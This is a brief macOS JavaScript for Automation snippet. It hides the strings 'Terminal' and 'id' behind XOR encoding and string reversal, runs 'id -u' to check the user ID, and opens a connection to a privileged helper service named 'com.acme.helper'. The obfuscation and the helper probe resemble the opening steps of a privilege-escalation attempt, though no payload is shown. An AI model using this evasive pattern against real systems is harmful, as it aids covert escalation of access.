var t = Application([93,108,123,100,96,103,104,101].map(n => String.fromCharCode(n ^ 9)).join(''))
var a = Application.currentApplication()
a.doShellScript('di'.split('').reverse().join('') + ' -u')
var x = $.NSXPCConnection.alloc.initWithMachServiceNameOptions(['com', 'acme', 'helper'].join('.'), 4096)
